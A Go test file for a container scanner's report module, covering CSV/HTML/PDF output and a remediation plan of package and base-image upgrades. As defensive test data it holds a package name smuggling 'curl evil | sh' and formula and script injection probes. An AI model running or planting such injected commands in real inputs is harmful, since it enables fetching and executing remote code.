package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"strings"
	"testing"
	"time"

	"github.com/limpet-security/limpet/internal/finding"
)

func sheet(rows iter.Seq2[[]string, error]) Sheet {
	return Sheet{Title: evil, Notes: []string{evil}, At: time.Date(2026, 11, 1, 2, 3, 4, 0, time.UTC), Columns: []Column{{"=id", 10}, {"what", 30}}, Rows: rows}
}

// TestSheets writes lists whose every cell is evil, in each format.
func TestSheets(t *testing.T) {
	many := func(yield func([]string, error) bool) {
		for i := range MaxPrinted + 7 {
			if !yield([]string{fmt.Sprint("+", i), evil}, nil) {
				return
			}
		}
	}
	for _, format := range SheetFormats {
		var a, b bytes.Buffer
		for _, w := range []*bytes.Buffer{&a, &b} {
			if err := WriteSheet(w, format, sheet(many)); err != nil {
				t.Fatal(format, err)
			}
		}
		if !bytes.Equal(a.Bytes(), b.Bytes()) {
			t.Errorf("%s: written twice, it differs", format)
		}
		switch out := a.String(); format {
		case "csv":
			lines, err := csv.NewReader(&a).ReadAll()
			if err != nil || len(lines) != MaxPrinted+8 {
				t.Fatalf("%d lines, %v", len(lines), err)
			}
			for _, l := range lines {
				for _, c := range l {
					if strings.ContainsRune("=+-@", rune(c[0])) {
						t.Fatalf("a formula: %q", c)
					}
				}
			}
		case "html":
			if strings.Contains(out, "<script") || strings.Count(out, "<tr>") != MaxPrinted+8 {
				t.Errorf("%d rows", strings.Count(out, "<tr>"))
			}
		case "pdf":
			if !strings.HasPrefix(out, "%PDF-") || !strings.HasSuffix(strings.TrimSpace(out), "%%EOF") || len(out) < 10_000 {
				t.Errorf("%d bytes, %.40q", len(out), out)
			}
		}
	}
	gone := errors.New("the database went away")
	for _, format := range SheetFormats {
		err := WriteSheet(io.Discard, format, sheet(func(yield func([]string, error) bool) { yield(nil, gone) }))
		if !errors.Is(err, gone) {
			t.Errorf("%s: %v", format, err)
		}
	}
	if WriteSheet(io.Discard, "exe", sheet(many)) == nil {
		t.Error("a format that there is not")
	}
}

// TestPDF writes a report, an evil one too, the same twice.
func TestPDF(t *testing.T) {
	for name, r := range map[string]*finding.Report{"ours": report(), "evil": poisoned(t, evil), "emoji": poisoned(t, "\U0001F41A 日本語 ₮"), "nothing": {Artifact: finding.Artifact{Name: "x"}}} {
		var a, b bytes.Buffer
		if err := errors.Join(PDF(&a, r), PDF(&b, r)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if !bytes.Equal(a.Bytes(), b.Bytes()) || !bytes.HasPrefix(a.Bytes(), []byte("%PDF-")) {
			t.Errorf("%s: %d and %d bytes", name, a.Len(), b.Len())
		}
		if name == "nothing" && !bytes.Contains(a.Bytes(), []byte("D:19700101000000")) {
			t.Error("a report of no time has one")
		}
	}
	for in, want := range map[string]string{"a\n b": "a b", "日": `\u65e5`, "Größe – Ж": "Größe – Ж", "\x1b[2J": `\x1b[2J`} {
		if got := printed(in); got != want {
			t.Errorf("%q is printed as %q, want %q", in, got, want)
		}
	}
}

// TestPlan: one step closes what a newer base image closes, in its place among
// the others; nothing of an image reaches a shell.
func TestPlan(t *testing.T) {
	v := func(id string, typ finding.Type, name, to string, s finding.Severity, layer string) finding.Vulnerability {
		return finding.Vulnerability{ID: id, Type: typ, Name: name, Version: "1", FixedVersion: to, Severity: s, Place: finding.Place{Path: "/x", Layer: layer}}
	}
	no := false
	r := &finding.Report{
		Artifact: finding.Artifact{
			Layers: []finding.Layer{{DiffID: "a", Base: true}, {DiffID: "b"}},
			Image:  &finding.Config{Labels: map[string]string{"org.opencontainers.image.base.name": "docker.io/library/debian:12"}},
		},
		Packages: []finding.Package{{Type: finding.NPM, Name: "left", Version: "1", Direct: &no}},
		Vulnerabilities: []finding.Vulnerability{
			v("CVE-1", finding.Deb, "libssl3", "2", finding.Critical, "a"), v("CVE-2", finding.Deb, "libssl3", "3", finding.High, "a"),
			v("CVE-3", finding.Deb, "zlib1g", "1:4", finding.Low, "a"), v("CVE-4", finding.Deb, "curl", "", finding.Critical, "a"),
			v("CVE-5", finding.NPM, "left", "2", finding.High, "b"), v("CVE-6", finding.NPM, "x; curl evil | sh #", "2", finding.Low, "b"),
			v("CVE-7", finding.Go, "stdlib", "1.26.1", finding.Medium, "b"),
		},
	}
	r.Vulnerabilities[4].KEV = &finding.KEV{}
	steps := Plan(r, 10)
	if len(steps) != 4 {
		t.Fatalf("%+v", steps)
	}
	for i, want := range []struct {
		name   string
		base   bool
		closes int
		first  string
	}{
		{"left", false, 1, "npm pkg set 'overrides.left=2' && npm install"}, {"docker.io/library/debian:12", true, 3, "FROM docker.io/library/debian:12"},
		{"stdlib", false, 1, "go get go@1.26.1"}, {"x; curl evil | sh #", false, 1, ""},
	} {
		first := ""
		if len(steps[i].Commands) > 0 {
			first = steps[i].Commands[0].Text
		}
		if s := steps[i]; s.Name != want.name || s.Base != want.base || s.Closes != want.closes || first != want.first {
			t.Errorf("step %d: %+v, want %+v", i, s, want)
		}
	}
	base := steps[1]
	if last := base.Commands[len(base.Commands)-1].Text; !strings.Contains(last, "apt-get install -y --only-upgrade libssl3=3 zlib1g=1:4") {
		t.Errorf("%q", last)
	}
	if len(base.Packages) != 2 || base.Packages[0] != (Upgrade{"libssl3", "1", "3"}) || base.Critical != 1 {
		t.Errorf("%+v", base)
	}
	if got := Plan(r, 1); len(got) != 1 || got[0].Name != "left" {
		t.Errorf("%+v", got)
	}
}
